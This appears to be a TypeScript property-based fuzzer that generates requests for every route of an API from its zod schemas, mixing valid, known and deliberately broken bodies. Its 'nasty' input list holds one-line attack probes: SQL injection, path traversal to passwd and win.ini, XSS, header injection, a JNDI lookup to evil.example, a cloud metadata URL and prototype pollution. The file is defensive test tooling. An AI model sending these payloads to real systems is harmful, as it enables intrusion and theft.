import fc from 'fast-check';
import { z } from 'zod';
import { routes, type RouteKey } from '../../contract/api.js';
import type { Route } from '../../contract/shapes.js';

/* Requests for every route, made from the very schemas the server checks with. */
export interface FuzzRequest {
  route: RouteKey;
  path: string;
  /** Absent: none is sent. A text goes as it is, whether it is JSON or not. */
  body?: unknown;
}
/** What the other side and we really have. */
export interface Known {
  /** Ids and names, put wherever a text may stand. */
  texts: string[];
  /** What belongs together, by the names of members: put into whatever has all of them, on the routes that `of` names. */
  together: { of?: RegExp; values: Record<string, unknown> }[];
}
interface Schema {
  type?: string;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  oneOf?: Schema[];
  additionalProperties?: Schema | boolean;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
  minimum?: number;
  maximum?: number;
  pattern?: string;
  format?: string;
}

/** Text that broke others. */
const nasty = [
  '',
  ' ',
  '\u0000',
  "' or 1=1 --",
  '"; drop table filing; --',
  '../../etc/passwd',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  'a\r\nset-cookie: evil=1',
  '{{7*7}}',
  '${jndi:ldap://evil.example}',
  '\ud800',
  '\u202egnp.exe',
  'x'.repeat(500),
  '9'.repeat(40),
  '-1',
  'NaN',
  '__proto__',
  'constructor',
  '=cmd()',
  '*',
  'a@b',
  '2026-02-30T25:61:61Z',
  '1970-01-01T00:00:00.000Z~0',
  'https://169.254.169.254/latest/meta-data',
  '//evil.example/x',
  '..\\..\\windows\\win.ini',
];
const anyText = (known: string[], maxLength = 60) =>
  fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...known) },
    { weight: 1, arbitrary: fc.constantFrom(...nasty) },
    { weight: 1, arbitrary: fc.string({ maxLength: Math.min(maxLength, 60), unit: 'grapheme' }) },
  );

/** Values that fit a schema, with ids that exist here or at somebody else's where a text may stand. */
function fitting(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fc.oneof(...choices.map((it) => fitting(it, known)));
  switch (schema.type) {
    case 'string':
      return textFor(schema, known.texts);
    case 'integer':
      return fc.oneof(
        fc.integer({ min: bound(schema.minimum, 0), max: Math.min(bound(schema.maximum, 1_000), 10_000) }),
        fc.constantFrom(bound(schema.minimum, 0), bound(schema.maximum, 2_147_483_647)),
      );
    case 'number':
      return fc.double({ noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(fitting(schema.items ?? {}, known), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 3, 3)),
      });
    case 'object':
      return objectFor(schema, known);
    default:
      return fc.jsonValue();
  }
}
const bound = (value: number | undefined, otherwise: number) =>
  value === undefined || Math.abs(value) > 2_147_483_647 ? otherwise : value;

function textFor({ format, pattern, minLength = 0, maxLength = 60 }: Schema, known: string[]): fc.Arbitrary<unknown> {
  if (format === 'uuid') return fc.oneof(fc.uuid(), uuids(known));
  if (format === 'date-time')
    return fc
      .date({ min: new Date('2020-01-01'), max: new Date('2030-01-01'), noInvalidDate: true })
      .map((it) => it.toISOString());
  if (pattern) {
    const fits = known.filter((it) => new RegExp(pattern).test(it));
    const made = fc.stringMatching(new RegExp(pattern), { maxLength: Math.min(maxLength, 40) });
    return fits.length > 0 ? fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...fits) }, made) : made;
  }
  const fits = known.filter((it) => it.length >= minLength && it.length <= maxLength);
  return anyText(fits.length > 0 ? fits : ['x'.repeat(minLength)], maxLength);
}
const uuids = (known: string[]) => {
  const found = known.filter((it) => /^[0-9a-f]{8}-/i.test(it));
  return found.length > 0 ? fc.constantFrom(...found) : fc.uuid();
};
function objectFor(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  const { properties = {}, required = [], additionalProperties } = schema;
  const own = fc.record(
    Object.fromEntries(Object.entries(properties).map(([name, it]) => [name, fitting(it, known)])),
    { requiredKeys: required.filter((it) => it in properties) as never[] },
  );
  if (typeof additionalProperties !== 'object' || Object.keys(properties).length > 0)
    return real(own, properties, known);
  return fc.dictionary(anyText(known.texts), fitting(additionalProperties, known), { maxKeys: 3 });
}

/** Mostly with members of something that is really there; of two that fit, rather the one that says more. */
function real(own: fc.Arbitrary<object>, properties: object, { together }: Known): fc.Arbitrary<object> {
  const fits = together.filter(({ values }) => Object.keys(values).every((it) => it in properties));
  if (fits.length === 0) return own;
  const there = fits.map(({ values }) => ({
    weight: Object.keys(values).length ** 2,
    arbitrary: own.map((it) => ({ ...it, ...values })),
  }));
  return fc.oneof({ weight: 1, arbitrary: own }, { weight: 4, arbitrary: fc.oneof(...there) });
}

/** Something that fits almost: one part of it is something else. */
function broken(fits: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const spoil = fc.oneof(fc.constantFrom<unknown>(...nasty, null, [], {}, -1, 1e308, true), fc.jsonValue());
  return fc.oneof(
    fc.tuple(fits, spoil, fc.nat(), fc.boolean()).map(([value, other, at, takeOut]) => {
      if (typeof value !== 'object' || value === null) return other;
      const copy = structuredClone(value) as Record<string, unknown>;
      const name = Object.keys(copy)[at % Math.max(1, Object.keys(copy).length)];
      if (name === undefined) return { more: other };
      if (takeOut) delete copy[name];
      else copy[name] = other;
      return copy;
    }),
    spoil,
    fc.constantFrom('{', '[]]', 'null', '"', '{"__proto__":{"isAdministrator":true}}'),
  );
}

/** Requests for one route: mostly ones that fit, so that they come far. */
function requestsFor(route: RouteKey, all: Known): fc.Arbitrary<FuzzRequest> {
  const known = { ...all, together: all.together.filter(({ of }) => !of || of.test(route)) };
  const { params, query, body }: Route = routes[route];
  const schemaOf = (it: z.ZodType) => z.toJSONSchema(it, { io: 'input', unrepresentable: 'any' }) as Schema;
  const texts = (it: z.ZodType | undefined) =>
    (it ? fitting(schemaOf(it), known) : fc.constant({})) as fc.Arbitrary<Record<string, unknown>>;
  const fits = body ? fitting(schemaOf(body), known) : undefined;
  const bodies = fits
    ? fc.oneof({ weight: 7, arbitrary: fits }, { weight: 3, arbitrary: broken(fits) })
    : fc.constant(undefined);
  return fc.tuple(texts(params), texts(query), bodies).map(([path, search, payload]) => {
    const [, template = ''] = route.split(' ');
    const filled = template.replace(/:(\w+)/g, (_all, name: string) => encode(path[name]));
    const pairs = Object.entries(search).map(([name, value]) => `${encode(name)}=${encode(value)}`);
    return {
      route,
      path: filled + (pairs.length > 0 ? `?${pairs.join('&')}` : ''),
      ...(payload === undefined ? {} : { body: payload }),
    };
  });
}
const encode = (value: unknown) => encodeURIComponent(Buffer.from(String(value)).toString('utf8'));

/** So many requests, spread evenly over every route; the same for the same seed. What takes things away for good comes last. */
export function fuzzRequests(count: number, known: Known, seed: number): FuzzRequest[] {
  const keys = Object.keys(routes) as RouteKey[];
  const each = Math.ceil(count / keys.length);
  const perRoute = keys.map((key, at) => fc.sample(requestsFor(key, known), { numRuns: each, seed: seed + at }));
  const mixed = Array.from({ length: each }, (_, i) => perRoute.map((it) => it[i] as FuzzRequest)).flat();
  const isLast = ({ route }: FuzzRequest) => /disconnect|erase/.test(route);
  return [...mixed.filter((it) => !isLast(it)), ...mixed.filter(isLast)];
}
